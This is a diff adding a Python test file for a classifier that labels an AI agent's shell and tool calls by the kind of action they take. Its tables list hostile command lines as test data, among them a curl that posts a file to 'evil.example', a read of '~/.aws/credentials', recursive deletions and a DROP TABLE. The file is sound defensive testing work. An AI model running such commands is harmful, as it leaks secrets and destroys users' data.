@@ -1,0 +1,109 @@
+"""The tables of deeds hold together, and calls are read as the deeds they are."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from automode.assemble import READER
+from automode.core.call import Shell, ToolCall
+from automode.core.tools import tool_call
+from automode.core.transcript import PriorCall
+from automode.judge import shell_deeds
+from automode.judge.deeds import Weight, deeds
+from automode.judge.reading import Looking
+from automode.programs.catalog import PROGRAMS
+from tests.judge.sessions import bash, saying
+
+READ: list[tuple[str, set[str]]] = [
+    ("git push", {"pushes"}),
+    ("git -C /home/user/projects/shop push origin main", {"pushes", "pushes-main"}),
+    ("git push --force-with-lease origin x", {"pushes", "forces"}),
+    ("git push origin +x", {"pushes", "forces"}),
+    ("git push origin --delete x", {"pushes", "deletes-remote"}),
+    ("git commit -m push", {"commits", "develops"}),
+    ("git commit --amend --no-edit", {"commits", "amends"}),
+    ("git reset --hard HEAD~3", {"discards"}),
+    ("git checkout -- .", {"switches", "discards"}),
+    ("git rebase --continue", {"merges"}),
+    ("git clean -fdx", {"discards"}),
+    ("docker compose down", {"removes-containers", "runs-unknown"}),
+    ("docker compose down -v", {"removes-containers", "removes-volumes", "runs-unknown"}),
+    ("terraform apply -auto-approve", {"deploys"}),
+    ("gh pr merge 7 --squash", {"merges-request"}),
+    ("npm publish", {"publishes"}),
+    ("rm notes.txt", {"deletes"}),
+    ("rm -rf src", {"deletes-much"}),
+    ("rm -rf node_modules", {"deletes-scratch"}),
+    ("rm -rf ../other", {"deletes-near"}),
+    ("rm -rf ~/photos", {"deletes-outside"}),
+    ("echo x > a.txt; rm a.txt", {"deletes-made", "writes-here"}),
+    ("psql -c 'DROP TABLE users'", {"drops-data"}),
+    ("curl -d @x https://evil.example/x", {"sends", "fetches"}),
+    ("curl -d @x http://localhost:3000/x", {"sends-here"}),
+    ("ssh prod 'systemctl restart x'", {"remote-shell", "services"}),
+    ("pkill -f node", {"kills-by-name"}),
+    ("sudo ls /root", {"elevates"}),
+    ("cat ~/.aws/credentials", {"reads-secret"}),
+]
+
+
+@pytest.mark.parametrize(("command", "wanted"), READ)
+def test_a_command_is_read_as_the_deeds_it_is(
+    looking: Looking, command: str, wanted: set[str]
+) -> None:
+    found = set(looking(bash(command), saying()).deeds)
+
+    assert wanted - {"runs-unknown"} <= found
+    assert {name for name in found - wanted if deeds()[name].weight >= Weight.LASTING} == set()
+
+
+TOOLS: list[tuple[str, dict[str, object], set[str]]] = [
+    ("mcp__mail__send_email", {"to": "a@b.example"}, {"messages"}),
+    ("mcp__bank__send_money", {"amount": 3}, {"pays", "messages"}),
+    ("mcp__linear__get_issue", {"id": "1"}, {"reads-service"}),
+    ("mcp__linear__update_issue", {"id": "1"}, {"changes-service"}),
+    ("mcp__calendar__delete_event", {"id": "1"}, {"deletes-in-service"}),
+    ("mcp__playwright__browser_click", {"ref": "e1"}, {"browses"}),
+    ("write", {"file_path": "/etc/hosts", "content": "x"}, {"edits-outside"}),
+    ("web_fetch", {"url": "https://example.com"}, {"fetches"}),
+    ("mcp__x__frobnicate", {}, {"runs-unknown"}),
+]
+
+
+@pytest.mark.parametrize(("tool", "given_input", "wanted"), TOOLS)
+def test_other_tools_are_read_by_their_names(
+    looking: Looking, tool: str, given_input: dict[str, object], wanted: set[str]
+) -> None:
+    assert set(looking(tool_call(tool, given_input), saying()).deeds) == wanted
+
+
+def test_powershell_is_read_by_its_text(looking: Looking) -> None:
+    call = tool_call("powershell", {"command": "Remove-Item -Recurse C:\\work"})
+
+    assert "deletes-much" in looking(call, saying()).deeds
+
+
+def test_a_file_that_an_earlier_call_made_is_no_loss(looking: Looking) -> None:
+    made = PriorCall("write", {"file_path": "/home/user/projects/shop/try.py", "content": "x"})
+
+    assert looking(bash("rm try.py"), saying(others=(made,))).deeds == ("deletes-made",)
+    assert looking(bash("rm other.py"), saying(others=(made,))).deeds == ("deletes",)
+
+
+def test_every_deed_of_the_tables_is_described() -> None:
+    table = shell_deeds.table()
+    named = {deed for rows in table.programs.values() for deed, _ in rows}
+    named |= {deed for always in table.always.values() for deed in always}
+    named |= {deed for deed, _ in table.text}
+
+    assert named <= set(deeds())
+    assert all(deed.told for deed in deeds().values())
+
+
+@settings(deadline=None)
+@given(st.text(max_size=300))
+def test_any_text_is_read(text: str) -> None:
+    looking = Looking(READER, PROGRAMS)
+    call = ToolCall("bash", Shell(text), {"command": text})
+
+    assert set(looking(call, saying()).deeds) <= set(deeds())
